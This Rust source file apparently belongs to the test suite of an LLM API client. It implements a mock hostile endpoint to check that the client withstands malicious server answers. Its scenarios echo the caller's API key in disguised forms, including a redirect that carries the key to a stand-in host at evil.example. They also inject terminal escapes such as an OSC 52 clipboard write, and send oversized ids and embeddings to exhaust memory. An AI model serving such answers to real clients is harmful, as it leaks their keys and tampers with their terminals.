//! A hostile endpoint: answers made to leak the caller's key in other spellings, to fool a caller
//! with a status that is no HTTP status or with terminal escapes, and to exhaust its memory with
//! oversized ids or a huge embeddings answer. Each is `mock/hostile-*` (chat) or
//! `mock/embed-huge` (embeddings); the key echoed is the request's own bearer token.

use bytes::Bytes;
use serde_json::json;

use super::body::{error_response, json_response, response, with_header, MockBody, Resp};
use super::call::Call;
use super::completion::answer;

/// The caller's key as the request carried it (`Authorization: Bearer KEY`).
fn key(call: &Call) -> String {
    call.authorization.as_deref().and_then(|a| a.strip_prefix("Bearer ")).unwrap_or("no-key").to_owned()
}

/// `KEY` with every character written as a JSON `\uXXXX` escape.
fn json_escaped(key: &str) -> String {
    key.chars().map(|c| format!("\\u{:04x}", c as u32)).collect()
}

/// `mock/hostile-*`, `None` for other names. Streams get the same answers (they are statuses or
/// whole bodies) except `hostile-stream-long-id`, which is an SSE stream.
pub(super) fn respond(call: &Call) -> Option<Resp> {
    let invalid = || json!("invalid_request_error");
    Some(match call.scenario().strip_prefix("hostile-")? {
        // 401 whose message spells the key in upper case.
        "echo-upper" => {
            let message = format!("Incorrect API key provided: {}", key(call).to_uppercase());
            error_response(401, &message, invalid(), json!(null), json!("invalid_api_key"))
        }
        // 500 whose text (not JSON, so never decoded) spells the key with JSON escapes.
        "echo-escaped" => {
            let text = format!("upstream failed for \"{}\"", json_escaped(&key(call)));
            response(500, "text/plain", MockBody::full(text))
        }
        // A 200 whose `choices` is the key: a parse error would quote it.
        "choices-key" => json_response(200, &json!({"choices": key(call)})),
        // A redirect to a host named after the key.
        "redirect-key-host" => {
            let resp = response(302, "text/plain", MockBody::full("moved"));
            with_header(resp, "location", &format!("https://{}.evil.example/steal", key(call)))
        }
        // A status that is no HTTP status.
        "status-999" => response(999, "application/json", MockBody::full(r#"{"error":{"message":"what"}}"#)),
        // Terminal escapes in the answer, the model name and a tool call: OSC 52 (clipboard),
        // CSI (clear screen, colours), BEL.
        "escapes" => {
            let mut value =
                answer(call, Some("hi\u{1b}]52;c;ZXZpbA==\u{7}\u{1b}[2J\u{9b}31mthere"), json!("tool_calls"));
            value["model"] = json!("gpt\u{1b}[31m-red");
            value["choices"][0]["message"]["tool_calls"] = json!([{"id": "call\u{7}", "type": "function",
                "function": {"name": "f\u{1b}[2J", "arguments": "{\"a\":\"\u{1b}]52;c;eA==\u{7}\"}"}}]);
            json_response(200, &value)
        }
        // A tool call whose id is 1 MiB.
        "long-id" => {
            let mut value = answer(call, None, json!("tool_calls"));
            value["choices"][0]["message"]["tool_calls"] = json!([{"id": "x".repeat(1 << 20), "type": "function",
                "function": {"name": "f", "arguments": "{}"}}]);
            json_response(200, &value)
        }
        // A stream of 1024 tool calls, each with a 1 MiB name (1 GiB if all were kept).
        "stream-long-names" => {
            let (tx, body) = MockBody::channel(4);
            let id = call.id.clone();
            tokio::spawn(async move {
                for i in 0..1024 {
                    let chunk = json!({"id": id, "object": "chat.completion.chunk", "choices": [{"index": 0,
                        "delta": {"tool_calls": [{"index": i, "id": format!("call_{i}"), "type": "function",
                            "function": {"name": "n".repeat(1 << 20), "arguments": ""}}]}}]});
                    tx.send(Bytes::from(format!("data: {chunk}\n\n"))).await?;
                }
                tx.send(Bytes::from_static(b"data: [DONE]\n\n")).await
            });
            response(200, "text/event-stream", body)
        }
        _ => return None,
    })
}

/// `mock/embed-huge`: one embedding of about 7 MiB of numbers (3.5 million zeros), under the
/// provider's 8 MiB answer cap: a JSON tree of it would take about 112 MB.
pub(super) fn huge_embedding() -> Resp {
    let mut body = String::with_capacity(7 << 20);
    body.push_str(r#"{"object":"list","model":"huge","data":[{"object":"embedding","index":0,"embedding":["#);
    body.push_str(&"0,".repeat(3_500_000));
    body.push_str(r#"0]}],"usage":{"prompt_tokens":1,"total_tokens":1}}"#);
    response(200, "application/json", MockBody::full(body))
}
